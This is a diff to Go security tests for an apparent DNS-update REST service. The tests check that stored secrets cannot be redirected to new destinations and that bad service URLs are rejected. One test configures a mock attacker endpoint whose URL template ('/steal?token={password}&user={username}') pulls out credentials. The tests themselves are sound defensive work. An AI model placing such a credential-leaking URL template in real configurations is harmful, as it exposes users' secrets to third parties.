@@ -130,21 +130,26 @@ func TestStoredSecretsNeverReachANewDestination(t *testing.T) {
 	patch := func(path string, body map[string]any) response {
 		return h.do(request{method: "PATCH", path: path, token: token, body: body})
 	}
-	var svc rest.Service
-	patch(fmt.Sprintf("/services/%d", dyn.Id), map[string]any{"url": attacker.URL + "/nic/update"}).expect(t, 200).decode(t, &svc)
-	p := patch(fmt.Sprintf("/services/%d", cf.Id), map[string]any{"settings": map[string]any{"zone_id": strings.Repeat("a", 32),
-		"api_url": attacker.URL + "/client/v4"}}).expect(t, 422).problem(t)
-	if fields := fieldsOf(p); !slices.Equal(fields, []string{"settings.api_url", "credential"}) {
-		t.Errorf("cloudflare destination change without the token: fields %v", fields)
+	// Refusals are checked without stopping the test: whatever got
+	// through, the end shows whether a secret reached the attacker.
+	refused := func(r response, what string, fields ...string) {
+		t.Helper()
+		if r.status != http.StatusUnprocessableEntity {
+			t.Errorf("%s: %d, want 422: %s", what, r.status, r.body)
+		} else if got := fieldsOf(r.problem(t)); !slices.Equal(got, fields) {
+			t.Errorf("%s: fields %v, want %v", what, got, fields)
+		}
 	}
+	patch(fmt.Sprintf("/services/%d", dyn.Id), map[string]any{"url": attacker.URL + "/nic/update"}).expect(t, 200)
+	refused(patch(fmt.Sprintf("/services/%d", cf.Id), map[string]any{"settings": map[string]any{"zone_id": strings.Repeat("a", 32),
+		"api_url": attacker.URL + "/client/v4"}}), "cloudflare destination change without the token", "settings.api_url", "credential")
 	patch(fmt.Sprintf("/services/%d", tmpl.Id), map[string]any{"settings": map[string]any{
 		"url": attacker.URL + "/steal?token={password}&user={username}&ip={ip}"}}).expect(t, 200)
-	p = patch(fmt.Sprintf("/records/%d", r2.Id), map[string]any{"service_id": dyn.Id}).expect(t, 422).problem(t)
-	if fields := fieldsOf(p); !slices.Equal(fields, []string{"password"}) {
-		t.Errorf("moving a record with a password without it: fields %v", fields)
-	}
+	refused(patch(fmt.Sprintf("/records/%d", r2.Id), map[string]any{"service_id": dyn.Id}),
+		"moving a record with a password without it", "password")
 	// A host name templated into the URL would let the record's name choose.
-	patch(fmt.Sprintf("/services/%d", other.Id), map[string]any{"settings": map[string]any{"url": "http://{fqdn}/x"}}).expect(t, 422)
+	refused(patch(fmt.Sprintf("/services/%d", other.Id), map[string]any{"settings": map[string]any{"url": "http://{fqdn}/x"}}),
+		"a templated host", "settings.url")
 
 	for _, r := range []rest.Record{r1, r3} {
 		got := get[rest.Record](h, session, fmt.Sprintf("/records/%d", r.Id))
@@ -235,16 +240,18 @@ func TestServiceURLsAreParsedStrictly(t *testing.T) {
 		"host with a character": "https://dyn$example/",
 		"fragment":              "https://dyn.example/#x",
 	}
+	n := 0
 	for name, u := range bad {
 		t.Run(name, func(t *testing.T) {
+			n++
 			for _, c := range []struct {
 				body  map[string]any
 				field string
 			}{
-				{map[string]any{"name": "x", "protocol": "dyndns2", "url": u}, "url"},
-				{map[string]any{"name": "x", "protocol": "dyndns2", "settings": map[string]any{"url": u}}, "settings.url"},
-				{map[string]any{"name": "x", "protocol": "http", "settings": map[string]any{"url": u}}, "settings.url"},
-				{map[string]any{"name": "x", "protocol": "cloudflare", "settings": map[string]any{"api_url": u}, "credential": "tok"}, "settings.api_url"},
+				{map[string]any{"name": fmt.Sprint("a", n), "protocol": "dyndns2", "url": u}, "url"},
+				{map[string]any{"name": fmt.Sprint("b", n), "protocol": "dyndns2", "settings": map[string]any{"url": u}}, "settings.url"},
+				{map[string]any{"name": fmt.Sprint("c", n), "protocol": "http", "settings": map[string]any{"url": u}}, "settings.url"},
+				{map[string]any{"name": fmt.Sprint("d", n), "protocol": "cloudflare", "settings": map[string]any{"api_url": u}, "credential": "tok"}, "settings.api_url"},
 			} {
 				r := h.do(request{method: "POST", path: "/services", token: session, body: c.body})
 				if r.status != http.StatusUnprocessableEntity {
@@ -258,7 +265,7 @@ func TestServiceURLsAreParsedStrictly(t *testing.T) {
 					t.Errorf("the error quotes the URL: %s", r.body)
 				}
 			}
-			r := h.do(request{method: "POST", path: "/webhooks", token: session, body: map[string]any{"name": "x", "url": u}})
+			r := h.do(request{method: "POST", path: "/webhooks", token: session, body: map[string]any{"name": fmt.Sprint("w", n), "url": u}})
 			if r.status != http.StatusUnprocessableEntity || !slices.Contains(fieldsOf(r.problem(t)), "url") {
 				t.Errorf("webhook: %d %s", r.status, r.body)
 			}
